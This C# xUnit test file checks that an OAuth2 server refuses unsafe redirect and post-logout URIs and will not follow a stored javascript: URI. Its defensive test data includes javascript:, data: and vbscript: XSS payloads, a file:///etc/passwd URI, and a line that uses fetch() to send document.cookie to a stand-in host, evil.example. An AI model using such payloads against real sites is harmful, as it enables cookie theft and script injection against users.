using System.Net;
using System.Text.Json.Nodes;
using Duende.IdentityModel.Client;
using Latchkey.Testing;
using Npgsql;
using StackExchange.Redis;
using Xunit;

namespace Latchkey.Contract.Tests;

/// <summary>
/// Redirect and post-logout URIs (contract: "Redirect and post-logout URIs"): refused at registration unless
/// https, http to loopback, or a reverse-domain private-use scheme; and never followed at /oauth2/auth when an
/// older client has one stored.
/// </summary>
[Collection(PlatformCollection.Name)]
public sealed class RedirectUriTests(PlatformFixture platform)
{
    readonly Api _api = new(platform);

    public static TheoryData<string> Refused =>
    [
        "javascript:alert(document.domain)", "JavaScript://%0aalert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
        "file:///etc/passwd", "blob:https://a.example/0d2c", "about:blank", "/relative/callback", "callback", "//a.example/cb",
        "https://a.example/cb#fragment", "http://a.example/cb", "http://127.0.0.1.evil.example/cb", "http://localhost.evil.example/cb",
        "myapp:/callback", "https://user:pass@a.example/cb",
    ];

    public static TheoryData<string> Allowed =>
    [
        "https://a.example/cb", "https://a.example:8443/cb?x=1", "http://127.0.0.1:8080/cb", "http://127.1.2.3/cb", "http://[::1]:9000/cb",
        "http://localhost:3000/cb", "http://app.localhost/cb", "com.example.app:/oauth2redirect", "com.example.app://callback",
    ];

    Task<(HttpStatusCode Status, JsonNode? Body)> CreateAsync(TestProject project, string field, params string[] uris) =>
        _api.SendAsync(HttpMethod.Post, _api.At(project, "/admin/clients"), project.ApiKey,
            Api.Json(new JsonObject { ["grant_types"] = new JsonArray("authorization_code"), [field] = new JsonArray([.. uris.Select(u => (JsonNode)u)]) }.ToJsonString()));

    [Theory]
    [MemberData(nameof(Refused))]
    public async Task Registration_RefusesUnsafeRedirectUris_OnCreatePutAndPatch(string uri)
    {
        var project = await _api.CreateProjectAsync("redirects");
        foreach (var field in new[] { "redirect_uris", "post_logout_redirect_uris" })
        {
            var (status, body) = await CreateAsync(project, field, uri);
            Assert.True(status == HttpStatusCode.BadRequest, $"{field} {uri}: {status} {body}");
        }

        var client = await _api.CreateClientAsync(project, """{"grant_types":["authorization_code"],"redirect_uris":["https://a.example/cb"]}""");
        var put = await _api.SendAsync(HttpMethod.Put, _api.At(project, $"/admin/clients/{client.Id}"), project.ApiKey,
            Api.Json(new JsonObject { ["grant_types"] = new JsonArray("authorization_code"), ["redirect_uris"] = new JsonArray(uri) }.ToJsonString()));
        Assert.Equal(HttpStatusCode.BadRequest, put.Status);
        var patch = await _api.SendAsync(HttpMethod.Patch, _api.At(project, $"/admin/clients/{client.Id}"), project.ApiKey,
            Api.Json(new JsonArray(new JsonObject { ["op"] = "add", ["path"] = "/post_logout_redirect_uris/-", ["value"] = uri }).ToJsonString()));
        Assert.Equal(HttpStatusCode.BadRequest, patch.Status);
        var (_, stored) = await _api.SendAsync(HttpMethod.Get, _api.At(project, $"/admin/clients/{client.Id}"), project.ApiKey);
        Assert.Equal(["https://a.example/cb"], stored!["redirect_uris"]!.AsArray().Select(n => n!.GetValue<string>()));
        Assert.Empty(stored["post_logout_redirect_uris"]?.AsArray() ?? []);
    }

    [Theory]
    [MemberData(nameof(Allowed))]
    public async Task Registration_AcceptsHttpsLoopbackAndPrivateUseSchemes(string uri)
    {
        var project = await _api.CreateProjectAsync("redirects-ok");
        var (status, body) = await CreateAsync(project, "redirect_uris", uri);
        Assert.True(status == HttpStatusCode.Created, $"{uri}: {status} {body}");
        Assert.Equal(HttpStatusCode.Created, (await CreateAsync(project, "post_logout_redirect_uris", uri)).Status);
    }

    [Fact]
    public async Task Registration_CapsTheNumberOfRedirectUris()
    {
        var project = await _api.CreateProjectAsync("redirects-cap");
        var hundred = Enumerable.Range(0, 100).Select(i => $"https://a.example/cb/{i}").ToArray();
        Assert.Equal(HttpStatusCode.Created, (await CreateAsync(project, "redirect_uris", hundred)).Status);
        Assert.Equal(HttpStatusCode.BadRequest, (await CreateAsync(project, "redirect_uris", [.. hundred, "https://a.example/cb/100"])).Status);
        Assert.Equal(HttpStatusCode.BadRequest, (await CreateAsync(project, "post_logout_redirect_uris", [.. hundred, "https://a.example/cb/100"])).Status);
    }

    /// <summary>A client stored before validation existed, with a javascript: URI: no redirect and no form_post page to it.</summary>
    [Fact]
    public async Task Authorize_ToAStoredJavascriptRedirectUri_IsRefusedWithoutRedirecting()
    {
        var project = await _api.CreateProjectAsync("redirects-stored");
        var client = await _api.CreateClientAsync(project, """{"grant_types":["authorization_code"],"response_types":["code"],"redirect_uris":["https://a.example/cb"],"scope":"openid"}""");
        const string Evil = "javascript:fetch('//evil.example/'+document.cookie)//";
        await using (var db = NpgsqlDataSource.Create(platform.DatabaseUrl))
        await using (var update = db.CreateCommand("update oauth2.mt_doc_oauth2client set data = jsonb_set(data, '{redirect_uris}', jsonb_build_array($1::text)) where id = $2"))
        {
            update.Parameters.AddWithValue(Evil);
            update.Parameters.AddWithValue(client.Id);
            Assert.Equal(1, await update.ExecuteNonQueryAsync());
        }
        // Drop every replica's cached copy of the client, as any change through the admin API does.
        await using (var redis = await ConnectionMultiplexer.ConnectAsync(platform.RedisUrl))
            await redis.GetSubscriber().PublishAsync(RedisChannel.Literal("lk:clients:changed"), "all");

        foreach (var mode in new[] { "form_post", "query", "fragment" })
        {
            var url = new RequestUrl(project.Issuer + "/oauth2/auth").CreateAuthorizeUrl(clientId: client.Id, responseType: "code", scope: "openid",
                redirectUri: Evil, state: "s", nonce: "n", codeChallenge: Pkce.New().Challenge, codeChallengeMethod: "S256", responseMode: mode, prompt: "none");
            using var response = await _api.Http.GetAsync(url);
            var text = await response.Content.ReadAsStringAsync();
            Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{mode}: {response.StatusCode} {response.Headers.Location} {text}");
            Assert.Null(response.Headers.Location);
            Assert.DoesNotContain("<form", text, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("javascript", text, StringComparison.OrdinalIgnoreCase);
        }
    }
}
